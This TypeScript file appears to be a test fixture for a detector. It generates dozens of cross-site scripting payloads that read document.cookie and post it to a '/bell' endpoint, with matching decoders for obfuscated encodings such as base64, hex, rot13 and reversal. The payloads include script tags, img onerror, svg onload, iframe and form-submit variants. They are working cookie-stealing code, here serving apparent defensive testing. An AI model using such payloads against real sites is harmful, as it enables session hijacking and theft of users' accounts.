import { dead, type Vector } from './vectors/vector.ts';

type Decode = (message: string) => string;
/** A review that sends something, and the receiver's way of reading it. */
export type Message = { readonly vector: Vector; readonly read: Decode };

const asItIs: Decode = (message) => message;
const percent: Decode = (message) =>
  message.replaceAll(/%([\da-f]{2})/gi, (_all, code: string) =>
    String.fromCharCode(Number.parseInt(code, 16)),
  );
const base64: Decode = (message) => Buffer.from(lastLine(message), 'base64').toString('latin1');
const hexadecimal: Decode = (message) =>
  Buffer.from(lastLine(message).replaceAll(/[^\da-f]/gi, ''), 'hex').toString('latin1');
const numbers =
  (radix: number): Decode =>
  (message) =>
    (lastLine(message).match(/\w+/g) ?? [])
      .map((code) => String.fromCharCode(Number.parseInt(code, radix)))
      .join('');
const letters: Decode = (message) => message.replaceAll(/[^\w=]/g, '');
const backwards: Decode = (message) => [...message].toReversed().join('');
const rot13: Decode = (message) =>
  message.replaceAll(/[a-z]/gi, (letter) => {
    const base = letter < 'a' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
const both =
  (outer: Decode, inner: Decode): Decode =>
  (message) =>
    inner(outer(message));
const lastLine = (message: string) => message.slice(message.lastIndexOf('\n') + 1);

/** Ways to build the body; `c` is the cookie. */
const bodies: readonly (readonly [string, Decode?])[] = [
  ['c'],
  ['JSON.stringify({c})'],
  ['new URLSearchParams({c})'],
  ['(()=>{const f=new FormData;f.append("c",new Blob([c]),"c.txt");return f})()'],
  ['new Blob([c],{type:"application/json"})'],
  ['encodeURIComponent(encodeURIComponent(JSON.stringify({c})))'],
  ['[...c].map(x=>"%"+x.charCodeAt().toString(16)).join("")', percent],
  ['btoa(c)', base64],
  ['encodeURIComponent(btoa(c))', both(percent, base64)],
  ['JSON.stringify({c:btoa(c)})', (message) => base64(/"c":"([^"]*)/.exec(message)?.[1] ?? '')],
  ['btoa([...c].join("\\0"))', (message) => base64(message).replaceAll('\0', '')],
  ['[...c].reverse().join("")', backwards],
  ['[...c].map(x=>x.charCodeAt().toString(16)).join("")', hexadecimal],
  ['[...c].map(x=>x.charCodeAt()).join(",")', numbers(10)],
  ['[...c].map(x=>x.charCodeAt().toString(2)).join(" ")', numbers(2)],
  ['[...c].map(x=>x.charCodeAt().toString(8)).join(" ")', numbers(8)],
  [
    '[...c].map(x=>"&#x"+x.charCodeAt().toString(16)+";").join("")',
    (message) => numbers(16)(message.replaceAll('x', '')),
  ],
  ['[...c].join("-")', letters],
  ['c.replace(/[a-z]/gi,x=>String.fromCharCode((x.charCodeAt()-(x<"a"?65:97)+13)%26+(x<"a"?65:97)))', rot13],
  ['"x".repeat(9000)+c'],
  [
    'btoa(String.fromCharCode(...new Uint8Array(new Uint16Array([...c].map(x=>x.charCodeAt())).buffer)))',
    (message) => base64(message).replaceAll('\0', ''),
  ],
  ['btoa(c.slice(0,24))', base64],
  ['c.replace(/.$/,"-")'],
  ['"sid=00000000000000000000000000000000"'],
];

const script = (js: string): Vector => ({ html: `<script>{const c=document.cookie;${js}}</script>` });
const sent = (body: string) => `fetch("/bell",{method:"POST",body:${body}})`;

/** Ways to the bell other than the body of a fetch. */
const ways: readonly (readonly [string, Decode?])[] = [
  ['fetch("/bell?"+btoa(c),{method:"POST"})', (message) => base64(/\?(.*)/.exec(message)?.[1] ?? '')],
  ['fetch("/bell",{method:"POST",headers:{"X-Cookie-Copy":c}})'],
  ['navigator.sendBeacon("/bell",c)'],
  ['const x=new XMLHttpRequest;x.open("POST","/bell");x.send(c)'],
  ['cookieStore.getAll().then(d=>fetch("/bell",{method:"POST",body:JSON.stringify(d)}))'],
  ['fetch("/bell",{method:"POST",body:c,keepalive:true,mode:"no-cors"})'],
  [
    'const f=document.createElement("form");f.method="POST";f.action="/bell";f.innerHTML="<input name=c>";f[0].value=c;document.body.append(f);f.submit()',
  ],
  [
    'const f=document.createElement("form");f.method="POST";f.action="/bell?"+c;document.body.append(f);f.submit()',
  ],
  [
    'const f=document.createElement("iframe");document.body.append(f);f.contentWindow.fetch("/bell",{method:"POST",body:c})',
  ],
  ['fetch("/bell",{method:"POST",body:c,referrerPolicy:"no-referrer"})'],
  ['fetch("/bell#"+c,{method:"POST"})', (message) => message.replace(/#.*/, '')],
];

const bare: readonly (readonly [Vector, Decode?])[] = [
  [{ html: "<img src=x onerror=\"fetch('/bell',{method:'POST',body:document.cookie})\">" }],
  [{ html: "<svg onload=\"fetch('/bell',{method:'POST',body:btoa(document.cookie)})\">" }, base64],
  [
    {
      html: "<iframe srcdoc=\"<script>fetch('/bell',{method:'POST',body:document.cookie})</script>\"></iframe>",
    },
  ],
  [
    {
      html: "<iframe src=\"javascript:fetch('/bell',{method:'POST',body:parent.document.cookie})\"></iframe>",
    },
  ],
  [{ act: 'click', html: "<b id=p onclick=\"fetch('/bell',{method:'POST',body:document.cookie})\">x</b>" }],
];

/** Requests that the bell ignores, and scripts that do not run. */
const unsent = dead([
  '<script>fetch("/bell",{method:"POST",credentials:"omit",body:document.cookie})</script>',
  '<b>fetch("/bell",{method:"POST",body:document.cookie})</b>',
  '<template><script>fetch("/bell",{method:"POST",body:document.cookie})</script></template>',
]);

export const messages: readonly Message[] = [
  ...bodies.map(([body, read]) => ({ vector: script(sent(body)), read: read ?? asItIs })),
  ...ways.map(([way, read]) => ({ vector: script(way), read: read ?? asItIs })),
  ...bare.map(([vector, read]) => ({ vector, read: read ?? asItIs })),
  ...unsent.map((vector) => ({ vector, read: asItIs })),
];
